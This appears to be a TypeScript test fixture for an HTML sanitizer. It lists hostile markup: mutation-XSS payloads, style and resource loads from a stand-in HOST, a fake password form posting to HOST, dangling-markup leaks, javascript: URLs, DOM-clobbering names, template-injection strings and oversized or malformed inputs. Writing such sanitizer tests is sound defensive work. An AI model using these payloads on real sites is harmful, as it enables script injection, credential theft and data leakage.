import { cases, openCases } from './HostileCase';

/** What a cleaner reads one way and a browser another. */
const mutations = cases('mutation', [
  [
    'a style in a formula',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
  ],
  ['a style in a drawing', '<svg></p><style><a id="</style><img src=x onerror=RUN>">'],
  [
    'a formula in a form in a form',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN></style></mglyph></form>',
  ],
  ['noscript in a title', '<p title="</noscript><img src=x onerror=RUN>"><noscript></noscript>'],
  ['a text field in a title', '<p title="</textarea><img src=x onerror=RUN>"><textarea></textarea>'],
  ['a style in a title', '<p title="</style><img src=x onerror=RUN>"><style></style>'],
  ['a plain text element', '<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>'],
  ['a frame with text', '<noembed><p title="</noembed><img src=x onerror=RUN>"></noembed>'],
  ['no frames', '<noframes><p title="</noframes><img src=x onerror=RUN>"></noframes>'],
  ['a list of choices', '<select><option><style></option></select><img src=x onerror=RUN></style>'],
  ['a choice within a choice', '<select><keygen><img src=x onerror=RUN></select>'],
  ['a table that spits out', '<table><td><svg><style></td></table><img src=x onerror=RUN></style>'],
  ['what stands wrong in a table', '<table><a href="#"><script>RUN</script></a><tr><td>x</table>'],
  ['a title in a drawing in a formula', '<math><svg><title><style></math><img src=x onerror=RUN></style>'],
  ['a comment in a style', '<style><!--</style><script>RUN</script>--></style>'],
  ['a comment in a title', '<title><!--</title><img src=x onerror=RUN>--></title>'],
  ['an attribute with a tag', '<p id="><img src=x onerror=RUN>">x</p>'],
  ['an attribute that ends in an entity', '<p title="x&quot;><img src=x onerror=RUN>">x</p>'],
  ['a name with a quote', '<p "><img src=x onerror=RUN>">x</p>'],
  ['a name with an equal sign', '<p =""><img src=x onerror=RUN>="">x</p>'],
  ['an end with attributes', '</p title="><img src=x onerror=RUN>">'],
  ['an end that is none', '</><img src=x onerror=RUN>'],
  ['a bang that is no comment', '<!x><img src=x onerror=RUN><!/x>'],
  [
    'a mark that we make ourselves',
    '<x-mark n="0"></x-mark><x-gallery></x-gallery><x-nothing onclick="RUN"></x-nothing>',
  ],
  ['a mark with another number', '<x-mark n="__proto__"></x-mark><x-mark n="constructor">x</x-mark>'],
]);

const styles = cases('style', [
  ['a sheet', '<style>body{display:none}*{background:url(https://HOST/a)}</style>'],
  ['a sheet of another host', '<link rel="stylesheet" href="https://HOST/a.css">'],
  ['an import', '<style>@import url(//HOST/a.css);</style>'],
  ['a background', '<p style="background:url(https://HOST/a)">x</p>'],
  [
    'a background attribute',
    '<table background="https://HOST/a"><tr><td background="//HOST/b">x</td></tr></table>',
  ],
  ['over the whole page', '<p style="position:fixed;inset:0;z-index:9999;background:red">x</p>'],
  ['an expression', '<p style="width:expression(RUN)">x</p>'],
  ['a behaviour', '<p style="-moz-binding:url(//HOST/x.xml#a);behavior:url(//HOST/x.htc)">x</p>'],
  [
    'a class of ours',
    '<p class="srOnly wrap" data-poll="x" data-picture data-ad-slot="x" data-header="x">x</p>',
  ],
  ['a face', '<style>@font-face{font-family:a;src:url(https://HOST/a.woff2)}p{font-family:a}</style>'],
  ['a list picture', '<ul style="list-style:url(https://HOST/a)"><li>x</li></ul>'],
  ['an escape', '<p style="backg\\round:u\\72l(https://HOST/a)">x</p>'],
]);

const documents = cases('document', [
  ['another base', '<base href="https://HOST/">'],
  ['another base for frames', '<base target="_parent" href="javascript:RUN//">'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://HOST/">'],
  ['a refresh that runs', '<meta http-equiv="refresh" content="0;url=javascript:RUN">'],
  ['a policy', '<meta http-equiv="content-security-policy" content="script-src \'none\'">'],
  ['a charset', '<meta charset="utf-7">'],
  ['a referrer', '<meta name="referrer" content="unsafe-url">'],
  ['a canonical address', '<link rel="canonical" href="https://HOST/">'],
  ['a manifest', '<link rel="manifest" href="https://HOST/m.json">'],
  ['a prefetch', '<link rel="prefetch" href="https://HOST/a"><link rel="preconnect" href="https://HOST/">'],
  [
    'a preload',
    '<link rel="modulepreload" href="https://HOST/a.js"><link rel="preload" as="image" href="https://HOST/a">',
  ],
  ['an icon', '<link rel="icon" href="https://HOST/a.ico">'],
  ['a title', '<title>x</title>'],
  ['an end of the page', '</main></body></html><p>x</p>'],
  ['an end of everything', '</div></section></article></main></p></span></figure>'],
  ['frames instead of a body', '<frameset onload="RUN"><frame src="javascript:RUN"></frameset>'],
]);

const forms = cases('form', [
  [
    'of its own',
    '<form action="https://HOST/"><input name="password" type="password"><button>Entrar</button></form>',
  ],
  ['that runs', '<form action="javascript:RUN"><button>x</button></form>'],
  ['a button with an address', '<button formaction="javascript:RUN">x</button>'],
  ['a button of another form', '<button form="contact" formaction="https://HOST/">x</button>'],
  [
    'a picture that sends',
    '<input type="image" src="https://HOST/a" formaction="javascript:RUN" onerror="RUN">',
  ],
  ['an index', '<isindex action="javascript:RUN" type="submit">'],
  ['a label for the menu', '<label for="header-one">x</label>'],
  ['a key', '<keygen autofocus onfocus="RUN">'],
]);

const names = cases('name', [
  ['an id of the page', '<p id="contenido">x</p><a id="boletin" name="boletin">y</a>'],
  ['a form called document', '<form name="body"><input name="innerHTML"></form><img name="querySelector">'],
  ['a frame called parent', '<iframe name="parent"></iframe><a name="location" id="location">x</a>'],
  ['links that make a string', '<a id="config"></a><a id="config" name="url" href="https://HOST/">x</a>'],
  [
    'a name of the scripts',
    '<a id="__NEXT_DATA__"></a><a id="self"></a><a id="__next_f"></a><a id="takeEarlyTaps"></a>',
  ],
  ['an id that is no word', '<p id="__proto__">x</p><p id="constructor">y</p>'],
]);

const broken = cases('broken', [
  ['entities', '&#0; &#x0; &#xD800; &#x110000; &#99999999999; &; &#; &#x; &nosuch; &amp;amp; &lt'],
  ['nested thousands deep', `${'<b>'.repeat(3_000)}x`],
  ['boxes thousands deep', `${'<div><blockquote>'.repeat(2_000)}x`],
  ['lists thousands deep', `${'<ul><li>'.repeat(2_000)}x`],
  ['tables in tables', `${'<table><tr><td>'.repeat(500)}x`],
  ['ends without beginnings', '</b></i></ul></table></blockquote></a>'.repeat(500)],
  ['a huge attribute', `<p title="${'a'.repeat(200_000)}" onclick="RUN">x</p>`],
  [
    'thousands of attributes',
    `<p ${Array.from({ length: 5_000 }, (_, i) => `a${i}="1"`).join(' ')} onclick="RUN">x</p>`,
  ],
  ['a word without an end', 'gol'.repeat(20_000)],
  ['a null byte', 'a\u0000b<p>\u0000</p>'],
  ['half a character', 'a\uD83Db <b>\uDE00</b>'],
  ['turned text', '\u202E<b>odot etse y</b> \u2067x'],
  ['ends of lines of scripts', 'a\u2028b\u2029c'],
  ['control characters', '\u0001\u0008\u000B\u001B[31m\u007F\u0085'],
  ['what is no character', '\uFFFE\uFFFF\uFDD0 x'],
  ['marks over marks', `e${'\u0301'.repeat(2_000)}`],
  ['an end of CDATA', 'a ]]> b <![CDATA[ c ]]&gt; d'],
  ['placeholders of templates', `{{constructor.constructor("RUN")()}} \${RUN} <%= RUN %> #{RUN} {minutes}`],
]);

/** A browser reads on to the end as well: these stand last. */
const unclosed = openCases('open', [
  ['a comment', '<!-- <p>x'],
  ['a script', '<script>RUN'],
  ['a style', '<style>body{display:none'],
  ['a text field', '<textarea><script>RUN</script>'],
  ['a title', '<title>x<script>RUN</script>'],
  ['plain text', '<plaintext><script>RUN</script>'],
  ['an attribute', '<img src="https://HOST/?'],
  ['an attribute with one quote', "<a href='https://HOST/?x"],
  ['a tag', '<img src=x onerror=RUN '],
  ['a form that takes all', '<form action="https://HOST/"><textarea name="x">'],
  ['a button in a form', '<button formaction="https://HOST/"><select name="x"><option>'],
  ['CDATA', '<svg><![CDATA[<script>RUN</script>'],
  ['a template', '<template><p>x'],
]);

export const hostileMarkup = [
  ...mutations,
  ...styles,
  ...documents,
  ...forms,
  ...names,
  ...broken,
  ...unclosed,
];
